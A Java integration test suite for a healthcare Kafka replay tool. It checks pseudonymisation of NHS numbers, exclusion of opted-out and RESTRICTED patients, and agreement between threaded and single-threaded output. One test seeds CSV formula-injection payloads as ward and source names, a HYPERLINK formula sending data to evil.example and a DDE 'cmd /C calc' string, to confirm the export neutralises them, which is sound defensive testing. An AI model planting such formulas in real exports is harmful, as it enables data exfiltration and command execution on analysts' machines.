package org.caretrail.it.consumers;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.apache.avro.specific.SpecificRecord;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.AdminClientConfig;
import org.apache.kafka.clients.admin.ConsumerGroupListing;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.Serializer;
import org.caretrail.consumers.replay.Pseudonymiser;
import org.caretrail.consumers.replay.Replay;
import org.caretrail.consumers.replay.ReplayFormat;
import org.caretrail.consumers.replay.ReplayOptions;
import org.caretrail.consumers.replay.ReplayProgress;
import org.caretrail.consumers.replay.ReplaySummary;
import org.caretrail.deploy.infra.EmbeddedKafkaBroker;
import org.caretrail.events.CareEventType;
import org.caretrail.events.CareEvents;
import org.caretrail.events.model.Action;
import org.caretrail.events.model.Admission;
import org.caretrail.events.model.Consent;
import org.caretrail.events.model.Discharge;
import org.caretrail.events.model.EventHeader;
import org.caretrail.events.model.EventType;
import org.caretrail.events.model.IdentityKind;
import org.caretrail.events.model.LocalIdentifier;
import org.caretrail.events.model.PatientIdentity;
import org.caretrail.events.model.PatientRef;
import org.caretrail.events.model.ProviderKind;
import org.caretrail.events.model.Sensitivity;
import org.caretrail.events.model.Source;
import org.caretrail.events.model.TimelineChange;
import org.caretrail.events.serde.RestSchemaRegistry;
import org.caretrail.events.topic.CareTopics;
import org.caretrail.events.topic.Topics;
import org.caretrail.it.RealInfrastructure;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The analysts' replay on the real broker and registry, read back with DuckDB. */
@Tag("integration")
class ReplayIT {

    static final Instant FROM = Instant.parse("2026-11-20T00:00:00Z");
    static final Instant TO = Instant.parse("2026-11-21T00:00:00Z");
    static final String ALICE = TestChanges.patient(1);
    static final String BOB = TestChanges.patient(2);
    static final String CAROL = TestChanges.patient(3);
    static final byte[] KEY = new byte[32];

    static {
        new java.security.SecureRandom().nextBytes(KEY);
    }

    @TempDir
    Path dir;

    static EventHeader header(String nhs, ProviderKind kind, String ods, Instant at) {
        return EventHeader.newBuilder().setEventId(UUID.randomUUID().toString()).setAction(Action.NEW)
                .setSubjectId("S-" + UUID.randomUUID()).setVersion(1).setOccurredAt(at).setRecordedAt(at)
                .setSource(Source.newBuilder().setOdsCode(ods).setName("Org " + ods).setKind(kind).setSystem("it")
                        .build())
                .setPatient(PatientRef.newBuilder().setNhsNumber(nhs)
                        .setLocalId(LocalIdentifier.newBuilder().setSystem(ods + "-MRN").setValue("M" + nhs).build())
                        .build())
                .setSensitivity(Sensitivity.NORMAL).build();
    }

    static Admission admission(String nhs, Instant at) {
        return Admission.newBuilder().setHeader(header(nhs, ProviderKind.ACUTE, "RJ1", at)).setSite(null)
                .setWard("7B").setSpecialty("Cardiology").setAdmissionMethod("EMERGENCY").setConsultant(null).build();
    }

    static Discharge discharge(String nhs, Instant at) {
        return Discharge.newBuilder().setHeader(header(nhs, ProviderKind.MENTAL_HEALTH, "RV5", at))
                .setSpellId("SPELL-" + nhs.hashCode()).setDestination("HOME").setDischargeMethod(null).build();
    }

    static PatientIdentity identity(String nhs, Instant at) {
        return PatientIdentity.newBuilder().setHeader(header(nhs, ProviderKind.GP, "A81001", at))
                .setKind(IdentityKind.LINK).setNhsNumber(nhs)
                .setLocalId(LocalIdentifier.newBuilder().setSystem("RJ1-MRN").setValue("LOCAL-" + nhs).build())
                .setSupersededNhsNumber(null).setFamilyName("Smith").setGivenName("Robert").setPostcode("SE1 7EH")
                .setBirthDate(LocalDate.of(1950, 3, 1)).build();
    }

    static Consent consent(String nhs, boolean optOut, Instant at) {
        return Consent.newBuilder().setHeader(header(nhs, ProviderKind.GP, "A81001", at))
                .setNationalDataOptOut(optOut).setPreferences(Map.of()).build();
    }

    @SuppressWarnings("unchecked")
    /** Sends one event with the given record timestamp and waits until the broker has it. */
    static void publish(KafkaProducer<String, byte[]> producer, Topics topics, SpecificRecord event, Instant timestamp)
            throws Exception {
        CareEventType type = CareEventType.of(event);
        Serializer<SpecificRecord> serializer = topics.events(type).valueSerde().serializer();
        producer.send(new ProducerRecord<>(type.topic(), null, timestamp.toEpochMilli(), CareEvents.patientKey(event),
                serializer.serialize(type.topic(), event))).get(30, TimeUnit.SECONDS);
    }

    /** Sends one event with the given record timestamp; counts it in {@code acked} once the broker has it. */
    static void publish(KafkaProducer<String, byte[]> producer, Topics topics, SpecificRecord event, Instant timestamp,
            java.util.concurrent.atomic.AtomicInteger acked) {
        CareEventType type = CareEventType.of(event);
        Serializer<SpecificRecord> serializer = topics.events(type).valueSerde().serializer();
        producer.send(new ProducerRecord<>(type.topic(), null, timestamp.toEpochMilli(), CareEvents.patientKey(event),
                serializer.serialize(type.topic(), event)), (metadata, e) -> {
                    if (e == null) {
                        acked.incrementAndGet();
                    }
                });
    }

    static KafkaProducer<String, byte[]> producer(String bootstrap) {
        return new KafkaProducer<>(Map.of(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrap, ProducerConfig.ACKS_CONFIG,
                "all", ProducerConfig.LINGER_MS_CONFIG, 10),
                new org.apache.kafka.common.serialization.StringSerializer(),
                new org.apache.kafka.common.serialization.ByteArraySerializer());
    }

    @Test
    void replaysAWindowToPseudonymisedParquetWithoutOptedOutPatientsAndTouchesNothing() throws Exception {
        Topics topics = new Topics(new RestSchemaRegistry(RealInfrastructure.registryUrl()));
        try (EmbeddedKafkaBroker broker = RealInfrastructure.newBroker();
                KafkaProducer<String, byte[]> producer = producer(broker.bootstrapServers());
                Admin admin = Admin.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG,
                        broker.bootstrapServers()))) {
            // given: events before, inside and after the window; Alice opted out; Bob opted out then back in
            Instant inside = FROM.plusSeconds(3600);
            for (String patient : List.of(ALICE, BOB, CAROL)) {
                publish(producer, topics, admission(patient, FROM.minusSeconds(60)), FROM.minusSeconds(60));
                for (int i = 0; i < 10; i++) {
                    publish(producer, topics, admission(patient, inside.plusSeconds(i)), inside.plusSeconds(i));
                }
                publish(producer, topics, discharge(patient, inside.plusSeconds(600)), inside.plusSeconds(600));
                publish(producer, topics, identity(patient, inside.plusSeconds(700)), inside.plusSeconds(700));
                publish(producer, topics, admission(patient, TO.plusSeconds(1)), TO.plusSeconds(1));
            }
            publish(producer, topics, consent(ALICE, true, inside), inside);
            publish(producer, topics, consent(BOB, true, inside), inside);
            publish(producer, topics, consent(BOB, false, inside.plusSeconds(5)), inside.plusSeconds(5));
            producer.flush();

            // when
            Path out = dir.resolve("window.parquet");
            List<ReplayProgress> progress = new ArrayList<>();
            ReplaySummary summary = new Replay(Map.of("bootstrap.servers", broker.bootstrapServers(),
                    "group.id", "must-be-ignored"), topics)
                    .run(ReplayOptions.of(List.of("care.admissions", "care.discharges", "care.patient-identities"),
                            FROM, TO, ReplayFormat.PARQUET, out).pseudonymised(KEY).excludingOptedOut(), progress::add);

            // then: Bob and Carol, 12 events each, pseudonymised, typed columns
            assertThat(summary.written()).isEqualTo(24);
            assertThat(summary.optedOut()).isEqualTo(12);
            assertThat(summary.outsideWindow()).isBetween(3L, 6L);
            assertThat(summary.byEventType()).containsEntry("admission", 20L).containsEntry("discharge", 2L)
                    .containsEntry("patient-identity", 2L);
            assertThat(summary.byProviderKind()).containsEntry("ACUTE", 20L).containsEntry("MENTAL_HEALTH", 2L)
                    .containsEntry("GP", 2L);
            assertThat(summary.toText()).contains("admission", "MENTAL_HEALTH");
            assertThat(progress).isNotEmpty();
            assertThat(progress.get(progress.size() - 1).written()).isEqualTo(24);

            Pseudonymiser pseudonyms = new Pseudonymiser(KEY);
            try (Connection duck = DriverManager.getConnection("jdbc:duckdb:"); Statement sql = duck.createStatement()) {
                String table = "read_parquet('" + out + "')";
                try (ResultSet r = sql.executeQuery("SELECT nhs_number, count(*) FROM " + table
                        + " GROUP BY nhs_number ORDER BY nhs_number")) {
                    List<String> seen = new ArrayList<>();
                    while (r.next()) {
                        seen.add(r.getString(1));
                        assertThat(r.getLong(2)).isEqualTo(12);
                    }
                    assertThat(seen).containsExactlyInAnyOrder(pseudonyms.nhsNumber(BOB), pseudonyms.nhsNumber(CAROL));
                }
                try (ResultSet r = sql.executeQuery("SELECT min(occurred_at), max(kafka_timestamp), typeof(min(occurred_at)), "
                        + "count(*) FILTER (WHERE body::VARCHAR LIKE '%Smith%' OR body::VARCHAR LIKE '%7EH%' "
                        + "OR body::VARCHAR LIKE '%1950%' "
                        + "OR body::VARCHAR LIKE '%" + BOB + "%' OR local_id_value LIKE '%" + BOB + "%') FROM " + table)) {
                    r.next();
                    assertThat(r.getObject(1, java.time.OffsetDateTime.class).toInstant()).isEqualTo(inside);
                    assertThat(r.getObject(2, java.time.OffsetDateTime.class).toInstant()).isBefore(TO);
                    assertThat(r.getString(3)).isEqualTo("TIMESTAMP WITH TIME ZONE");
                    assertThat(r.getLong(4)).as("names, full postcodes, birth dates and raw identifiers left").isZero();
                }
                try (ResultSet r = sql.executeQuery("SELECT json_extract_string(body, '$.nhsNumber') FROM " + table
                        + " WHERE event_type = 'patient-identity' AND nhs_number = '" + pseudonyms.nhsNumber(BOB) + "'")) {
                    assertThat(r.next()).isTrue();
                    assertThat(r.getString(1)).isEqualTo(pseudonyms.nhsNumber(BOB));
                }
            }

            // and the replay left no consumer group and wrote to no topic
            assertThat(admin.listConsumerGroups().all().get(10, TimeUnit.SECONDS))
                    .extracting(ConsumerGroupListing::groupId).isEmpty();
            assertThat(summary.read()).isEqualTo(summary.written() + summary.optedOut() + summary.outsideWindow());
        }
    }

    /**
     * An opt-out covers the person, not one identifier: recorded under an NHS number that was later
     * merged into another, it leaves out events under the surviving number, and events known only by a
     * local identifier linked to it.
     */
    @Test
    void anOptOutFollowsTheLinksAndMergesOfThePatientsIdentity() throws Exception {
        Topics topics = new Topics(new RestSchemaRegistry(RealInfrastructure.registryUrl()));
        String oldNumber = TestChanges.patient(4);
        String survivor = TestChanges.patient(5);
        String linkedLater = TestChanges.patient(6);
        try (EmbeddedKafkaBroker broker = RealInfrastructure.newBroker();
                KafkaProducer<String, byte[]> producer = producer(broker.bootstrapServers())) {
            Instant inside = FROM.plusSeconds(3600);
            publish(producer, topics, consent(oldNumber, true, inside), inside);
            for (String patient : List.of(oldNumber, survivor, CAROL)) {
                publish(producer, topics, admission(patient, inside.plusSeconds(10)), inside.plusSeconds(10));
            }
            // the old number is superseded by the survivor (after the window: identity is about the person)
            PatientIdentity merge = PatientIdentity.newBuilder(identity(survivor, TO.plusSeconds(60)))
                    .setKind(IdentityKind.SUPERSEDE).setSupersededNhsNumber(oldNumber).setLocalId(null).build();
            publish(producer, topics, merge, TO.plusSeconds(60));
            // an event known only by a hospital number, which a link ties to the survivor
            Admission localOnly = admission(linkedLater, inside.plusSeconds(20));
            localOnly.getHeader().getPatient().setNhsNumber(null);
            localOnly.getHeader().getPatient().setLocalId(
                    LocalIdentifier.newBuilder().setSystem("RJ1-MRN").setValue("LOCAL-ONLY-7").build());
            publish(producer, topics, localOnly, inside.plusSeconds(20));
            PatientIdentity link = PatientIdentity.newBuilder(identity(survivor, inside.plusSeconds(30)))
                    .setLocalId(LocalIdentifier.newBuilder().setSystem("RJ1-MRN").setValue("LOCAL-ONLY-7").build())
                    .build();
            publish(producer, topics, link, inside.plusSeconds(30));
            producer.flush();

            Path out = dir.resolve("opt-out.jsonl");
            ReplaySummary summary = new Replay(Map.of("bootstrap.servers", broker.bootstrapServers()), topics)
                    .run(ReplayOptions.of(List.of("care.admissions"), FROM, TO, ReplayFormat.JSONL, out)
                            .withIdentifiers().excludingOptedOut(), p -> { });

            // then only Carol's admission is left: the old number's, the survivor's and the linked local one are not
            assertThat(summary.optedOut()).isEqualTo(3);
            assertThat(summary.written()).isEqualTo(1);
            List<String> lines = Files.readAllLines(out);
            assertThat(lines).hasSize(1);
            assertThat(lines.get(0)).contains(CAROL).doesNotContain(survivor).doesNotContain(oldNumber)
                    .doesNotContain("LOCAL-ONLY-7");
        }
    }

    /**
     * Records decoded and pseudonymised on several threads are written as one thread writes them: the
     * same rows, each partition's in offset order, the same counts. 3,000 events of 300 patients over
     * the topics' partitions, with records outside the window, RESTRICTED ones and an opted-out patient
     * among them, so every kind of outcome is shared out.
     */
    @Test
    void aReplayOnSeveralThreadsWritesWhatAOneThreadReplayWrites() throws Exception {
        Topics topics = new Topics(new RestSchemaRegistry(RealInfrastructure.registryUrl()));
        try (EmbeddedKafkaBroker broker = RealInfrastructure.newBroker();
                KafkaProducer<String, byte[]> producer = producer(broker.bootstrapServers())) {
            Instant inside = FROM.plusSeconds(3600);
            java.util.concurrent.atomic.AtomicInteger acked = new java.util.concurrent.atomic.AtomicInteger();
            int sent = 0;
            for (int i = 0; i < 3000; i++) {
                String patient = TestChanges.patient(i % 300);
                Instant at = i % 50 == 7 ? TO.plusSeconds(i) : inside.plusSeconds(i);
                SpecificRecord event = i % 2 == 0 ? admission(patient, at) : discharge(patient, at);
                if (i % 40 == 3) {
                    CareEvents.header(event).setSensitivity(Sensitivity.RESTRICTED);
                }
                publish(producer, topics, event, at, acked);
                sent++;
            }
            publish(producer, topics, consent(TestChanges.patient(5), true, inside), inside);
            producer.flush();
            assertThat(acked.get()).isEqualTo(sent);
            Replay replay = new Replay(Map.of("bootstrap.servers", broker.bootstrapServers()), topics);
            List<String> eventTopics = List.of(CareEventType.ADMISSION.topic(), CareEventType.DISCHARGE.topic());

            Path oneThread = dir.resolve("one-thread.csv");
            ReplaySummary sequential = replay.withThreads(1).run(ReplayOptions.of(eventTopics, FROM, TO,
                    ReplayFormat.CSV, oneThread).pseudonymised(KEY).excludingOptedOut(), p -> { });
            Path fourThreads = dir.resolve("four-threads.csv");
            ReplaySummary parallel = replay.withThreads(4).run(ReplayOptions.of(eventTopics, FROM, TO,
                    ReplayFormat.CSV, fourThreads).pseudonymised(KEY).excludingOptedOut(), p -> { });

            // reasoned from what was sent: 60 outside the window (i % 50 == 7); 75 RESTRICTED (i % 40 == 3, never
            // also i % 50 == 7); patient 5's 10 events (i = 5, 305, ... 2705: none outside, none RESTRICTED) opted out
            assertThat(sequential.read()).isEqualTo(3000);
            assertThat(sequential.outsideWindow()).isEqualTo(60);
            assertThat(sequential.restrictedWithheld()).isEqualTo(75);
            assertThat(sequential.optedOut()).isEqualTo(10);
            assertThat(sequential.written()).isEqualTo(3000 - 60 - 75 - 10);
            assertThat(parallel.read()).isEqualTo(sequential.read());
            assertThat(parallel.written()).isEqualTo(sequential.written()).isPositive();
            assertThat(parallel.outsideWindow()).isEqualTo(sequential.outsideWindow());
            assertThat(parallel.optedOut()).isEqualTo(sequential.optedOut()).isPositive();
            assertThat(parallel.restrictedWithheld()).isEqualTo(sequential.restrictedWithheld()).isPositive();
            assertThat(parallel.byEventType()).isEqualTo(sequential.byEventType());
            assertThat(parallel.byProviderKind()).isEqualTo(sequential.byProviderKind());
            assertThat(sequential.written() + sequential.optedOut() + sequential.restrictedWithheld()
                    + sequential.outsideWindow()).isEqualTo(3000);
            // the same rows; within a partition in the same (offset) order, whatever the order the polls mixed them in
            List<String> one = Files.readAllLines(oneThread);
            List<String> four = Files.readAllLines(fourThreads);
            assertThat(four.get(0)).isEqualTo(one.get(0));
            assertThat(four).hasSize((int) sequential.written() + 1).containsExactlyInAnyOrderElementsOf(one);
            assertThat(byPartition(four)).isEqualTo(byPartition(one));
        }
    }

    /** CSV rows (after the header) grouped by their first two cells (topic, partition), each group in file order. */
    private static Map<String, List<String>> byPartition(List<String> csv) {
        Map<String, List<String>> groups = new java.util.TreeMap<>();
        for (String row : csv.subList(1, csv.size())) {
            String[] cells = row.split(",", 3);
            groups.computeIfAbsent(cells[0] + "," + cells[1], k -> new ArrayList<>()).add(row);
        }
        return groups;
    }

    @Test
    void replaysTimelineChangesToJsonLinesAndCsv() throws Exception {
        Topics topics = new Topics(new RestSchemaRegistry(RealInfrastructure.registryUrl()));
        try (EmbeddedKafkaBroker broker = RealInfrastructure.newBroker();
                KafkaProducer<String, TimelineChange> producer = new KafkaProducer<>(Map.of(
                        ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, broker.bootstrapServers()),
                        topics.timelineChanges().keySerde().serializer(),
                        topics.timelineChanges().valueSerde().serializer())) {
            Instant at = FROM.plusSeconds(60);
            for (int seq = 0; seq < 5; seq++) {
                TimelineChange change = TestChanges.change(CAROL, seq, EventType.REFERRAL, "RJ1", "A81001",
                        Sensitivity.NORMAL);
                producer.send(new ProducerRecord<>(CareTopics.TIMELINE_CHANGES, null, at.toEpochMilli(), CAROL, change))
                        .get(30, TimeUnit.SECONDS);
            }
            producer.flush();
            Replay replay = new Replay(Map.of("bootstrap.servers", broker.bootstrapServers()), topics);

            Path jsonl = dir.resolve("changes.jsonl");
            ReplaySummary summary = replay.run(ReplayOptions.of(List.of(CareTopics.TIMELINE_CHANGES), FROM, TO,
                    ReplayFormat.JSONL, jsonl).withIdentifiers(), p -> { });
            Path csv = dir.resolve("changes.csv");
            replay.run(ReplayOptions.of(List.of(CareTopics.TIMELINE_CHANGES), FROM, TO, ReplayFormat.CSV, csv)
                    .withIdentifiers(), p -> { });

            assertThat(summary.written()).isEqualTo(5);
            assertThat(summary.byEventType()).containsOnly(Map.entry("referral", 5L));
            List<String> lines = Files.readAllLines(jsonl);
            assertThat(lines).hasSize(5).allMatch(l -> l.startsWith("{\"type\":\"timeline-change\"") && l.contains(CAROL));
            List<String> rows = Files.readAllLines(csv);
            assertThat(rows).hasSize(6);
            assertThat(rows.get(1)).contains("care.timeline-changes", "referral", "ADDED", CAROL);
            assertThat(Set.copyOf(rows.subList(1, 6)).size()).isEqualTo(5);
        }
    }

    /**
     * What an analyst gets from {@code caretrail replay} by default: pseudonymised rows, no RESTRICTED
     * record, no identifier left in clear anywhere in the file (the case: an identity event
     * whose subject id carried the hospital number), and CSV cells a spreadsheet will not run.
     */
    @Test
    void theReplayCommandWritesPseudonymisedCsvWithoutRestrictedRecordsOrIdentifiersInClear() throws Exception {
        Topics topics = new Topics(new RestSchemaRegistry(RealInfrastructure.registryUrl()));
        try (EmbeddedKafkaBroker broker = RealInfrastructure.newBroker();
                KafkaProducer<String, byte[]> producer = producer(broker.bootstrapServers())) {
            Instant inside = FROM.plusSeconds(3600);
            PatientIdentity identity = PatientIdentity.newBuilder(identity(BOB, inside))
                    .setLocalId(LocalIdentifier.newBuilder().setSystem("RX1-MRN").setValue("MRN-SECRET-4711").build())
                    .build();
            identity.getHeader().setSubjectId("identity/RX1-MRN|MRN-SECRET-4711");
            publish(producer, topics, identity, inside);
            Admission normal = admission(BOB, inside.plusSeconds(10));
            normal.setConsultant("Dr Ada Synthetic");
            normal.setWard("=HYPERLINK(\"http://evil.example/?\"&A1,\"Ward 7\")");
            normal.getHeader().getSource().setName("@SUM(1+1)*cmd|' /C calc'!A0");
            publish(producer, topics, normal, inside.plusSeconds(10));
            Admission restricted = admission(BOB, inside.plusSeconds(20));
            restricted.getHeader().setSensitivity(Sensitivity.RESTRICTED);
            restricted.setWard("Sexual Health Clinic 3");
            publish(producer, topics, restricted, inside.plusSeconds(20));
            producer.flush();

            Path key = Files.write(dir.resolve("replay.key"), KEY);
            Path csv = dir.resolve("analyst.csv");
            java.io.StringWriter out = new java.io.StringWriter();
            picocli.CommandLine cli = org.caretrail.deploy.cli.CareTrail.commandLine();
            cli.setOut(new java.io.PrintWriter(out, true));
            cli.setErr(new java.io.PrintWriter(new java.io.StringWriter(), true));
            int exit = cli.execute("replay", "--topics", "care.admissions,care.patient-identities", "--from",
                    FROM.toString(), "--to", TO.toString(), "--format", "csv", "--out", csv.toString(), "--key-file",
                    key.toString(), "--bootstrap-servers", broker.bootstrapServers(), "--schema-registry-url",
                    RealInfrastructure.registryUrl());

            assertThat(exit).isZero();
            assertThat(out.toString()).contains("Replayed 2 event(s)", "1 RESTRICTED withheld",
                    "Identifiers: pseudonymised");
            String file = Files.readString(csv);
            Pseudonymiser pseudonyms = new Pseudonymiser(KEY);
            assertThat(file).doesNotContain("MRN-SECRET-4711", BOB, "M" + BOB, "Smith", "Robert", "7EH",
                    "1950-03-01", "Dr Ada Synthetic", "Sexual Health Clinic");
            assertThat(file).contains(pseudonyms.nhsNumber(BOB), pseudonyms.subjectId("identity/RX1-MRN|MRN-SECRET-4711"),
                    pseudonyms.localId("RX1-MRN", "MRN-SECRET-4711"));
            assertThat(file).contains(",'@SUM(1+1)*cmd|' /C calc'!A0,").doesNotContain(",@SUM");
            try (Connection duck = DriverManager.getConnection("jdbc:duckdb:"); Statement sql = duck.createStatement();
                    ResultSet r = sql.executeQuery("SELECT json_extract_string(body, '$.ageBand'), "
                            + "json_extract_string(body, '$.postcode') FROM read_csv('" + csv + "') "
                            + "WHERE event_type = 'patient-identity'")) {
                assertThat(r.next()).isTrue();
                assertThat(r.getString(1)).isEqualTo("75-79");
                assertThat(r.getString(2)).isEqualTo("SE1");
            }

            // the operator may include RESTRICTED records, still pseudonymised
            Path withRestricted = dir.resolve("restricted.jsonl");
            ReplaySummary summary = new Replay(Map.of("bootstrap.servers", broker.bootstrapServers()), topics)
                    .run(ReplayOptions.of(List.of("care.admissions"), FROM, TO, ReplayFormat.JSONL, withRestricted)
                            .pseudonymised(KEY).includingRestricted(), p -> { });
            assertThat(summary.written()).isEqualTo(2);
            assertThat(summary.restrictedWithheld()).isZero();
            assertThat(Files.readString(withRestricted)).contains("Sexual Health Clinic 3", "\"RESTRICTED\"")
                    .doesNotContain(BOB);
        }
    }
}
